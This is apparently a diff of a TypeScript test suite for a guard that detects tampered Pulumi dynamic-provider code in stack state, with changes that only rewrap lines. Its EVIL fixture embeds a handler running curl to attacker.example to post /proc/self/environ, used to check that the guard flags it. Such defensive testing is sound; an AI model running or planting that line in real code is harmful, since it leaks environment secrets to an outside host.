@@ -28,7 +28,8 @@ const PLUGIN = "pulumi-nodejs:dynamic/grafana-athena:AthenaPluginInstallation";
 const STACK = "urn:pulumi:grafana::grafana-athena-workspace";
 const NODEJS_PROVIDER = `${STACK}::pulumi:providers:pulumi-nodejs::default::0a1b2c`;
 const EVIL =
-    "exports.handler = () => { require('child_process').execSync('curl https://attacker.example/ -d @/proc/self/environ'); };";
+    "exports.handler = () => { require('child_process').execSync('curl " +
+    "https://attacker.example/ -d @/proc/self/environ'); };";
 
 /** A resource as the dynamic provider host leaves it in the state: its outputs carry the code it ran with. */
 function dynamicResource(type: string, name: string, code: string) {
@@ -46,7 +47,10 @@ function dynamicResource(type: string, name: string, code: string) {
     };
 }
 
-/** A state export of a workspace stack after a deploy of this commit: the health check, the plugin, an AWS role. */
+/**
+ * A state export of a workspace stack after a deploy of this commit: the health check, the plugin, an AWS
+ * role.
+ */
 function deployedState(current: readonly SerializedProvider[]) {
     const code = (type: string) => current.find((p) => p.type === type)!.code!;
     return {
@@ -88,7 +92,8 @@ const healthCheck = (s: State) =>
     s.deployment.resources.find((r) => r.type === HEALTH) as ReturnType<typeof dynamicResource>;
 
 describe("state guard", function () {
-    // One child process serializes the providers as the Pulumi CLI would (TypeScript's own transpiler): seconds on a busy machine.
+    // One child process serializes the providers as the Pulumi CLI would (TypeScript's own transpiler):
+    // seconds on a busy machine.
     this.timeout(120_000);
     let current: SerializedProvider[];
     let accepted: AcceptedCode;
@@ -116,7 +121,8 @@ describe("state guard", function () {
             const recorded = readRecordFile(REPO).some((r) => r.type === p.type && r.sha256 === p.sha256);
             assert.ok(
                 recorded,
-                `the provider code of ${p.type} changed: once reviewed, add this line to ${RECORD_FILE}:\n${recordLine(p)}`,
+                `the provider code of ${p.type} changed: once reviewed, add this ` +
+                    `line to ${RECORD_FILE}:\n${recordLine(p)}`,
             );
         }
     });
@@ -165,7 +171,9 @@ describe("state guard", function () {
         assert.equal(lines.length, 2, r.stderr);
         assert.equal(
             lines[0],
-            `state-guard: ${file}: "${healthCheck(state).urn}": its outputs.__provider (SHA-256 ${sha256(EVIL).slice(0, 16)}…) is not the provider code this commit serializes for ${HEALTH}, nor one reviewed before`,
+            `state-guard: ${file}: "${healthCheck(state).urn}": its outputs.__provider ` +
+                `(SHA-256 ${sha256(EVIL).slice(0, 16)}…) is not the provider code this commit ` +
+                `serializes for ${HEALTH}, nor one reviewed before`,
         );
         assert.equal(r.stdout, "");
     });
@@ -278,12 +286,15 @@ describe("state guard", function () {
             copy = copyRepository({ whole: true });
             copy.writeStack("infra-account-b", "sales", exampleStackConfig("infra-account-b"));
             copy.writeStack("infra-account-a", "grafana", exampleStackConfig("infra-account-a"));
-            // A stand-in CLI: `pulumi stack export --stack NAME` prints states/<stack>.json, records its folder.
+            // A stand-in CLI: `pulumi stack export --stack NAME` prints states/<stack>.json, records its
+            // folder.
             bin = fs.mkdtempSync(path.join(os.tmpdir(), "state-guard-bin-"));
             fs.mkdirSync(path.join(bin, "states"));
             fs.writeFileSync(
                 path.join(bin, "pulumi"),
-                `#!/usr/bin/env bash\necho "$PWD $*" >> "${bin}/calls"\nf="${bin}/states/\${4##*/}.json"\n[ -f "$f" ] || { echo "error: no stack named '$4' found" >&2; exit 255; }\ncat "$f"\n`,
+                `#!/usr/bin/env bash\necho "$PWD $*" >> ` +
+                    `"${bin}/calls"\nf="${bin}/states/\${4##*/}.json"\n[ -f ` +
+                    `"$f" ] || { echo "error: no stack named '$4' found" >&2; exit 255; }\ncat "$f"\n`,
                 { mode: 0o755 },
             );
             saved = process.env.PATH;
@@ -306,7 +317,8 @@ describe("state guard", function () {
             const ws = await runMain(main, ["--root", copy.root, "--workspaces", "--org", "acme"]);
             assert.equal(ws.code, 0, ws.stderr);
             assert.deepEqual(fs.readFileSync(path.join(bin, "calls"), "utf8").trim().split("\n"), [
-                `${fs.realpathSync(copy.workspaceDir)} stack export --stack acme/grafana-athena-workspace/grafana --non-interactive`,
+                `${fs.realpathSync(copy.workspaceDir)} stack export --stack ` +
+                    `acme/grafana-athena-workspace/grafana --non-interactive`,
             ]);
             states(empty, deployedState(current));
             const shard = await runMain(main, ["--root", copy.root, "--shard", "1/1", "--org", "acme"]);
